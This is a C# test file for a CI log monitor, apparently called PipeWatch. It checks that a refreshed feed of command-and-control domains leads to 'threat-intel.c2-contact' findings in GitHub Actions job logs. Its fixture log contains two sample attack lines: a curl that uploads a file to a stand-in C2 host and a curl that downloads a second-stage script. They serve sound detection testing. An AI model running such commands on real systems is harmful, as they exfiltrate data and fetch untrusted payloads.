using System.Net;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using Microsoft.Extensions.Time.Testing;
using PipeWatch.Tests.Support;
using Xunit;

namespace PipeWatch.Tests.Server;

/// <summary>
/// <c>intel.feeds</c> in a running <c>serve</c>: a feed on a loopback server is read at start and again at its interval (on a
/// fake clock), and what the refresh adds reaches the detectors of the running engine: a job log that contacted a domain the feed
/// did not list raised nothing; once the feed lists it and the refresh has run, the same line in the next job's log is
/// <c>threat-intel.c2-contact</c>. (That a lookup sees the old index or the new one, never half of one, is
/// <c>IntelFeedRefresherTests</c>'s.)
/// </summary>
public sealed class IntelFeedRefreshTests
{
    private const string Token = "ghs_api_token_for_tests";

    private const string Log = """
        2026-11-27T12:00:01.0000000Z ##[group]Run ./scripts/report.sh
        2026-11-27T12:00:01.1000000Z curl -sS -X POST --data @coverage.json https://beacon.old-c2.example/r
        2026-11-27T12:00:01.2000000Z curl -sS https://cdn.fresh-c2.example/stage2.sh -o /tmp/s.sh
        2026-11-27T12:00:01.3000000Z ##[endgroup]
        """;

    [Fact]
    public async Task A_domain_the_feed_adds_is_found_in_the_next_job_log_once_the_scheduled_refresh_has_run()
    {
        var listing = "# team C2 list\nold-c2.example\n";
        await using var feed = new LoopbackHttpServer(request => request.Path == "/feeds/c2.txt" ? new HttpReply(200, listing, ContentType: "text/plain") : new HttpReply(404));
        await using var api = JobLogApi();
        var time = new FakeTimeProvider(Ingest.Now);
        var output = new StringWriter();
        var yaml = $"serve:\n  github-api-url: '{api.Url}'\nintel:\n  feeds:\n    - url: {feed.Url}/feeds/c2.txt\n      name: team-c2\n      refresh: 1h\n";
        await using var server = await RunningServer.StartAsync(yaml, new Dictionary<string, string> { ["PIPEWATCH_GITHUB_TOKEN"] = Token }, output: TextWriter.Synchronized(output), time: time);

        // The first refresh runs at start.
        await SaidAsync(output, 1, time);
        await PostJobAsync(server, api, jobId: 1001, downloads: 1);
        Assert.Equal([("beacon.old-c2.example", "1001")], await C2ContactsAsync(server));

        // The feed gains the domain; an hour later the refresh reads it again and swaps the index.
        listing += "fresh-c2.example\n";
        time.Advance(TimeSpan.FromHours(1));
        await SaidAsync(output, 2, time);
        await PostJobAsync(server, api, jobId: 1002, downloads: 2);

        Assert.Equal(
            [("beacon.old-c2.example", "1001"), ("beacon.old-c2.example", "1002"), ("cdn.fresh-c2.example", "1002")],
            await C2ContactsAsync(server));
        Assert.Equal(["GET /feeds/c2.txt", "GET /feeds/c2.txt"], feed.Requests.Select(r => $"{r.Method} {r.Path}"));
        Assert.Empty(server.Problems.Problems);
    }

    // Waits (bounded) until serve has said that the n-th refresh put an index in force; nudges the fake clock by a second in
    // case the refresher computed its wait just before the clock moved.
    private static async Task SaidAsync(StringWriter output, int refreshes, FakeTimeProvider time)
    {
        var deadline = DateTime.UtcNow.AddSeconds(60);
        while (Said(output).Split('\n').Count(l => l.StartsWith("pipewatch serve: intel feeds refreshed (1 read);", StringComparison.Ordinal)) < refreshes)
        {
            Assert.True(DateTime.UtcNow < deadline, $"refresh {refreshes} not said; serve said:\n{Said(output)}");
            await Task.Delay(100, TestContext.Current.CancellationToken);
            if (refreshes > 1) time.Advance(TimeSpan.FromSeconds(1));
        }
    }

    private static string Said(StringWriter output)
    {
        lock (output) return output.ToString();
    }

    private static async Task PostJobAsync(RunningServer server, LoopbackHttpServer api, long jobId, int downloads)
    {
        var job = JsonNode.Parse(File.ReadAllText(Corpus.File("github-webhooks", "workflow_job", "completed.failure.with-organization.payload.json")))!;
        job["workflow_job"]!["id"] = jobId;
        job["workflow_job"]!["run_id"] = jobId;
        var body = Encoding.UTF8.GetBytes(job.ToJsonString());
        Assert.Equal(HttpStatusCode.Accepted, (await server.PostGitHubAsync(body, "workflow_job", signature: RunningServer.Sign(body))).StatusCode);

        // Settled: the webhook, the log download it asked for, and the log itself all processed.
        var deadline = DateTime.UtcNow.AddSeconds(60);
        while (true)
        {
            await server.DrainedAsync();
            var health = await server.GetJsonAsync("/api/health", null);
            if (api.Requests.Count(r => r.Path == "/blob/log.txt") == downloads && health.GetProperty("following").GetInt32() == 0 && health.GetProperty("backlog").GetInt64() == 0) return;

            Assert.True(DateTime.UtcNow < deadline, $"job {jobId}: its log was not processed");
            await Task.Delay(50, TestContext.Current.CancellationToken);
        }
    }

    private static async Task<List<(string Host, string Run)>> C2ContactsAsync(RunningServer server) =>
        [.. (await server.AllFindingsAsync())
            .Where(f => f.GetProperty("rule").GetString() == "threat-intel.c2-contact")
            .Select(f => (Observed(f), f.GetProperty("location").GetProperty("run_id").GetString()!))
            .Order()];

    private static string Observed(JsonElement finding)
    {
        var title = finding.GetProperty("title").GetString()!;
        var url = new Uri(title[(title.LastIndexOf(": ", StringComparison.Ordinal) + 2)..]);
        return url.Host;
    }

    // The GitHub REST API's job-log download, as GitHub answers it: 302 to a short-lived address, served by the same listener.
    private static LoopbackHttpServer JobLogApi()
    {
        var api = new LoopbackHttpServer();
        api.Respond = request =>
            request.Path == "/blob/log.txt" ? new HttpReply(200, Log.ReplaceLineEndings("\n") + "\n", ContentType: "text/plain")
            : request.Method == "GET" && request.Path.EndsWith("/logs", StringComparison.Ordinal) && request.Headers.GetValueOrDefault("Authorization") == $"Bearer {Token}"
                ? new HttpReply(302, Headers: new Dictionary<string, string> { ["Location"] = api.Url + "/blob/log.txt" })
            : new HttpReply(404, """{"message":"Not Found"}""");
        return api;
    }
}
